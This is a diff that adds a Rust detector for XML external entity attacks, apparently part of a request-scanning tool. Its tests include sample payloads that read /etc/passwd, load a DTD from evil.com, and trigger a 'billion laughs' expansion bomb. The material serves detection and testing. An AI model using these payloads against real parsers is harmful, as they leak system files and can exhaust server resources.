@@ -1,0 +1,140 @@
+//! XML external entities: document type declarations that pull in files or URLs (external
+//! DTDs, `SYSTEM` / `PUBLIC` entities, parameter entities), entity expansion bombs, XInclude,
+//! and schema imports from remote locations.
+
+use super::ascii::{find_ci, find_ci_from};
+use super::{AttackClass, Finding};
+
+/// Declarations examined per document.
+const MAX_DECLS: usize = 256;
+
+fn push(findings: &mut Vec<Finding>, rule: &'static str, score: u16, start: usize, end: usize) {
+    findings.push(Finding {
+        class: AttackClass::Xxe,
+        rule,
+        score,
+        span: start..end.max(start),
+    });
+}
+
+/// Judge an XML document (or any value that carries declarations).
+pub(crate) fn detect(value: &str, whole_document: bool, findings: &mut Vec<Finding>) {
+    let b = value.as_bytes();
+    if let Some(at) = find_ci(b, b"<!doctype") {
+        let end =
+            memchr::memchr2(b'[', b'>', b.get(at..).unwrap_or(b"")).map_or(b.len(), |i| at + i);
+        let head = b.get(at..end).unwrap_or(b"").to_ascii_uppercase();
+        if memchr::memmem::find(&head, b" SYSTEM").is_some()
+            || memchr::memmem::find(&head, b" PUBLIC").is_some()
+        {
+            return push(findings, "xxe.external-dtd", 5, at, end);
+        }
+    }
+    let mut from = 0;
+    let mut entities = 0;
+    let mut first = 0;
+    while let Some(at) = find_ci_from(b, b"<!entity", from) {
+        from = at + 8;
+        if entities == 0 {
+            first = at;
+        }
+        entities += 1;
+        if entities > MAX_DECLS {
+            break;
+        }
+        let end = memchr::memchr(b'>', b.get(at..).unwrap_or(b"")).map_or(b.len(), |i| at + i);
+        let decl = b.get(at + 8..end).unwrap_or(b"").to_ascii_uppercase();
+        let trimmed = decl
+            .iter()
+            .skip_while(|c| c.is_ascii_whitespace())
+            .copied()
+            .collect::<Vec<u8>>();
+        if trimmed.first() == Some(&b'%') {
+            return push(findings, "xxe.parameter-entity", 5, at, end);
+        }
+        if memchr::memmem::find(&decl, b"SYSTEM").is_some()
+            || memchr::memmem::find(&decl, b"PUBLIC").is_some()
+        {
+            return push(findings, "xxe.external-entity", 5, at, end);
+        }
+        // An entity whose value refers to other entities is a step of an expansion bomb.
+        if memchr::memchr(b'&', &decl).is_some() {
+            return push(findings, "xxe.entity-expansion", 5, at, end);
+        }
+    }
+    if entities > 0 {
+        return push(
+            findings,
+            "xxe.internal-entity",
+            if whole_document { 5 } else { 3 },
+            first,
+            first + 8,
+        );
+    }
+    for marker in [&b"xi:include"[..], b"http://www.w3.org/2001/xinclude"] {
+        if let Some(at) = find_ci(b, marker) {
+            return push(findings, "xxe.xinclude", 5, at, at + marker.len());
+        }
+    }
+    if !whole_document {
+        return;
+    }
+    for marker in [
+        &b"<xs:include"[..],
+        b"<xs:import",
+        b"<xs:redefine",
+        b"<xsd:include",
+        b"<xsd:import",
+    ] {
+        if let Some(at) = find_ci(b, marker) {
+            let end = memchr::memchr(b'>', b.get(at..).unwrap_or(b"")).map_or(b.len(), |i| at + i);
+            let tag = b.get(at..end).unwrap_or(b"");
+            if find_ci(tag, b"http").is_some()
+                || find_ci(tag, b"file:").is_some()
+                || find_ci(tag, b"//").is_some()
+            {
+                return push(findings, "xxe.remote-schema", 5, at, end);
+            }
+        }
+    }
+    for marker in [&b"schemalocation="[..], b"nonamespaceschemalocation="] {
+        if let Some(at) = find_ci(b, marker) {
+            let rest = b.get(at..(at + 256).min(b.len())).unwrap_or(b"");
+            if find_ci(rest, b"http").is_some() {
+                return push(findings, "xxe.remote-schema", 3, at, at + marker.len());
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn score(value: &str) -> u16 {
+        let mut f = Vec::new();
+        detect(value, true, &mut f);
+        f.iter().map(|f| f.score).max().unwrap_or(0)
+    }
+
+    #[test]
+    fn external_entities_and_friends() {
+        for a in [
+            "<!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]><foo>&xxe;</foo>",
+            "<!DOCTYPE x [ <!ENTITY % y SYSTEM \"//y/y\" > %y; ]><x>a</x>",
+            "<!DOCTYPE x SYSTEM \"//x/x\" > <x>a</x>",
+            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY % xxe PUBLIC \"any_text\" \"http://evil.com/evil.dtd\">%xxe;]><root>&xxe;</root>",
+            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
+            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
+            "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include namespace=\"http://x.example/\"/></xs:schema>",
+        ] {
+            assert_eq!(score(a), 5, "missed: {a}");
+        }
+        for b in [
+            "<Patient xmlns=\"http://hl7.org/fhir\"><id value=\"1\"/></Patient>",
+            "<!DOCTYPE html><p>x</p>",
+        ] {
+            assert_eq!(score(b), 0, "false positive: {b}");
+        }
+    }
+}
